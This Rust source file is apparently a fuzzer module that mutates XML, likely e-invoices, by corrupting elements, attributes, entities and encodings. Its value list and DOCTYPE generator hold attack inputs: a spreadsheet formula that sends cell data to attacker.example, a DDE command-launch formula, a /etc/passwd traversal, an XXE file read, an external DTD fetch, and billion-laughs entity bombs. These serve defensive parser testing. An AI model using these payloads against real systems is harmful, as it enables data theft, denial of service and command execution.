//! Changes that know the format of XML: elements, attributes, entities, encodings.

use std::ops::Range;

use super::Change;
use super::bytes::{
    cut_off, double_part, drop_part, flip_bits, go_on_as_another, overwrite, put_before,
    take_a_part_of_another,
};
use super::places::{all, copy, find, insert, odd_number, one_of, place, replace, run};
use crate::random::Dice;

/// Every change; those listed twice occur twice as often.
pub(super) const CHANGES: [Change; 31] = [
    flip_bits,
    overwrite,
    drop_part,
    double_part,
    cut_off,
    go_on_as_another,
    take_a_part_of_another,
    put_before,
    drop_element,
    drop_element,
    double_element,
    double_element,
    move_element,
    take_an_element_of_another,
    nest_element,
    nest_element,
    change_text,
    change_text,
    change_text,
    change_number,
    change_number,
    change_attribute,
    double_attribute,
    rename,
    add_document_type,
    add_document_type,
    add_odd_markup,
    declare_another_encoding,
    encode_otherwise,
    encode_otherwise,
    change_namespace,
];

/// Invalid texts that replace values.
const TEXTS: [&str; 22] = [
    "",
    " ",
    "-",
    "=HYPERLINK(\"http://attacker.example/?\"&A1;\"Invoice\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{202e}4711\u{202c}\u{200b}",
    "&lol9;",
    "&#0;",
    "&#x202E;",
    "&#xFFFFFFFF;",
    "&unknown;",
    "<![CDATA[<b>]]>",
    "]]>",
    "99999999999999999999999999999999999999999999.99",
    "-0",
    "1e400",
    "NaN",
    "20249999",
    "0000-00-00",
    "2024-02-30T99:99:99Z",
    "\u{10ffff}\u{fffd}",
    "../../../../etc/passwd",
];

/// The name in a tag, starting at the position of its `<`.
fn name_of(bytes: &[u8], tag: usize) -> Option<Vec<u8>> {
    let is_of_name = |byte: u8| byte.is_ascii_alphanumeric() || b":_-.".contains(&byte);
    let name = run(bytes, tag + 1, is_of_name)?;
    (name.start == tag + 1).then(|| copy(bytes, name))
}

/// An element with its end: the next closing tag with its name, which may belong to another
/// element.
fn element(bytes: &[u8], dice: &mut Dice) -> Option<Range<usize>> {
    let begin = one_of(bytes, b"<", dice)?;
    let mut close = b"</".to_vec();
    close.extend(name_of(bytes, begin)?);
    close.push(b'>');
    Some(begin..find(bytes, &close, begin)? + close.len())
}

/// A text between two tags.
fn text(bytes: &[u8], dice: &mut Dice) -> Option<Range<usize>> {
    let begin = one_of(bytes, b">", dice)? + 1;
    let end = find(bytes, b"<", begin)?;
    (begin < end).then_some(begin..end)
}

/// An attribute with the space before it.
fn attribute(bytes: &[u8], dice: &mut Dice) -> Option<Range<usize>> {
    let equals = one_of(bytes, b"=\"", dice)?;
    let name = bytes.get(..equals)?.iter().rev().take_while(|byte| !byte.is_ascii_whitespace()).count();
    let end = find(bytes, b"\"", equals + 2)? + 1;
    Some(equals.saturating_sub(name + 1)..end)
}

fn drop_element(bytes: &mut Vec<u8>, _donor: &[u8], dice: &mut Dice) {
    if let Some(element) = element(bytes, dice) {
        replace(bytes, element, b"");
    }
}

fn double_element(bytes: &mut Vec<u8>, _donor: &[u8], dice: &mut Dice) {
    if let Some(element) = element(bytes, dice) {
        let (again, place) = (copy(bytes, element.clone()), element.end);
        insert(bytes, place, &again.repeat(dice.count(1, 300)));
    }
}

fn move_element(bytes: &mut Vec<u8>, _donor: &[u8], dice: &mut Dice) {
    let Some((from, to)) = element(bytes, dice).zip(element(bytes, dice)) else { return };
    let moved = copy(bytes, from.clone());
    insert(bytes, to.end, &moved);
    if from.end <= to.end {
        replace(bytes, from, b"");
    }
}

fn take_an_element_of_another(bytes: &mut Vec<u8>, donor: &[u8], dice: &mut Dice) {
    if let Some((place, taken)) = element(bytes, dice).zip(element(donor, dice)) {
        insert(bytes, place.end, &copy(donor, taken));
    }
}

fn nest_element(bytes: &mut Vec<u8>, _donor: &[u8], dice: &mut Dice) {
    let Some(element) = element(bytes, dice) else { return };
    let Some(name) = name_of(bytes, element.start) else { return };
    let (depth, name) = (dice.count(2, 30_000), String::from_utf8_lossy(&name).into_owned());
    let inside = copy(bytes, element.clone());
    let mut nested = format!("<{name}>").repeat(depth).into_bytes();
    nested.extend(inside);
    if dice.chance(0.7) {
        nested.extend(format!("</{name}>").repeat(depth).into_bytes());
    }
    replace(bytes, element, &nested);
}

fn change_text(bytes: &mut Vec<u8>, _donor: &[u8], dice: &mut Dice) {
    for _ in 0..dice.count(1, 4) {
        let Some(text) = text(bytes, dice) else { return };
        let long = dice.chance(0.1);
        let other = dice.pick(TEXTS);
        let other = if long { "long ".repeat(dice.count(10, 100_000)) } else { other.to_owned() };
        replace(bytes, text, other.as_bytes());
    }
}

fn change_number(bytes: &mut Vec<u8>, _donor: &[u8], dice: &mut Dice) {
    let is_of_number = |byte: u8| byte.is_ascii_digit() || byte == b'.' || byte == b'-';
    for _ in 0..dice.count(1, 8) {
        if let Some(number) = run(bytes, place(bytes, dice), is_of_number) {
            replace(bytes, number, &odd_number(dice));
        }
    }
}

fn change_attribute(bytes: &mut Vec<u8>, _donor: &[u8], dice: &mut Dice) {
    let Some(attribute) = attribute(bytes, dice) else { return };
    let value = dice.pick(TEXTS).replace('"', "'");
    let other = match dice.count(0, 3) {
        0 => String::new(),
        1 => format!(" xmlns=\"{value}\""),
        2 => format!(" schemeID=\"{}\"", value.repeat(dice.count(1, 5000))),
        _ => format!(" xmlns:ram=\"{value}\""),
    };
    replace(bytes, attribute, other.as_bytes());
}

fn double_attribute(bytes: &mut Vec<u8>, _donor: &[u8], dice: &mut Dice) {
    if let Some(attribute) = attribute(bytes, dice) {
        let again = copy(bytes, attribute.clone());
        insert(bytes, attribute.end, &again.repeat(dice.count(1, 500)));
    }
}

fn rename(bytes: &mut Vec<u8>, donor: &[u8], dice: &mut Dice) {
    let Some(tag) = one_of(bytes, b"<", dice) else { return };
    let (Some(name), Some(other)) =
        (name_of(bytes, tag), one_of(donor, b"<", dice).and_then(|tag| name_of(donor, tag)))
    else {
        return;
    };
    // In half of the cases with its end tag, so that the file stays well-formed.
    let places = if dice.chance(0.5) { all(bytes, &name) } else { vec![tag + 1] };
    for place in places.into_iter().rev() {
        replace(bytes, place..place + name.len(), &other);
    }
}

/// Entities that expand, entities that read files and addresses, definitions that refer to each
/// other.
fn add_document_type(bytes: &mut Vec<u8>, _donor: &[u8], dice: &mut Dice) {
    let bomb: String =
        (1..10).map(|n| format!("<!ENTITY lol{n} \"{}\">", format!("&lol{};", n - 1).repeat(10))).collect();
    let inside = match dice.count(0, 4) {
        0 => format!("<!ENTITY lol0 \"lol\">{bomb}"),
        1 => "<!ENTITY lol9 SYSTEM \"file:///etc/passwd\">".to_owned(),
        2 => "<!ENTITY % p SYSTEM \"http://127.0.0.1:9/x.dtd\"> %p;".to_owned(),
        3 => "<!ENTITY a \"&b;\"><!ENTITY b \"&a;\"><!ENTITY lol9 \"&a;\">".to_owned(),
        _ => "<!ATTLIST x y CDATA \"z\">".repeat(dice.count(1, 2000)),
    };
    let place = find(bytes, b"?>", 0).map_or(0, |end| end + 2);
    insert(bytes, place, format!("<!DOCTYPE x [{inside}]>").as_bytes());
    if let Some(text) = text(bytes, dice) {
        replace(bytes, text, b"&lol9;");
    }
}

fn add_odd_markup(bytes: &mut Vec<u8>, _donor: &[u8], dice: &mut Dice) {
    let odd: &str = dice.pick([
        "<!-- a -- b -->",
        "<!--",
        "<![CDATA[",
        "]]>",
        "<?php ?>",
        "<?xml version=\"1.1\"?>",
        "<",
        ">",
        "&",
        "\0",
        "</x>",
        "<x/>",
        "<x y=1>",
        "<a:b:c/>",
    ]);
    let place =
        if dice.chance(0.5) { one_of(bytes, b"<", dice).unwrap_or_default() } else { place(bytes, dice) };
    insert(bytes, place, odd.repeat(dice.count(1, 100)).as_bytes());
}

fn declare_another_encoding(bytes: &mut Vec<u8>, _donor: &[u8], dice: &mut Dice) {
    let encoding: &str = dice.pick([
        "UTF-16",
        "UTF-7",
        "ISO-8859-1",
        "Shift_JIS",
        "EBCDIC-CP-US",
        "windows-1252",
        "ISO-2022-JP",
        "x-nothing",
        "",
    ]);
    if let Some(begin) = find(bytes, b"encoding=\"", 0).map(|place| place + b"encoding=\"".len()) {
        let end = find(bytes, b"\"", begin).unwrap_or(begin);
        replace(bytes, begin..end, encoding.as_bytes());
    }
}

fn encode_otherwise(bytes: &mut Vec<u8>, _donor: &[u8], dice: &mut Dice) {
    let text = String::from_utf8_lossy(bytes).into_owned();
    *bytes = match dice.count(0, 4) {
        0 => [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect(),
        1 => [0xfe, 0xff].into_iter().chain(text.encode_utf16().flat_map(u16::to_be_bytes)).collect(),
        2 => text.encode_utf16().flat_map(u16::to_le_bytes).collect(),
        3 => text.chars().map(|letter| u8::try_from(u32::from(letter)).unwrap_or(b'?')).collect(),
        _ => text.chars().flat_map(|letter| u32::from(letter).to_be_bytes()).collect(),
    };
}

fn change_namespace(bytes: &mut Vec<u8>, donor: &[u8], dice: &mut Dice) {
    let namespace = |bytes: &[u8], dice: &mut Dice| {
        let begin = one_of(bytes, b"\"urn:", dice)? + 1;
        Some(begin..find(bytes, b"\"", begin)?)
    };
    let Some(here) = namespace(bytes, dice) else { return };
    let other = namespace(donor, dice).map(|there| copy(donor, there)).unwrap_or_default();
    replace(bytes, here, &other);
}
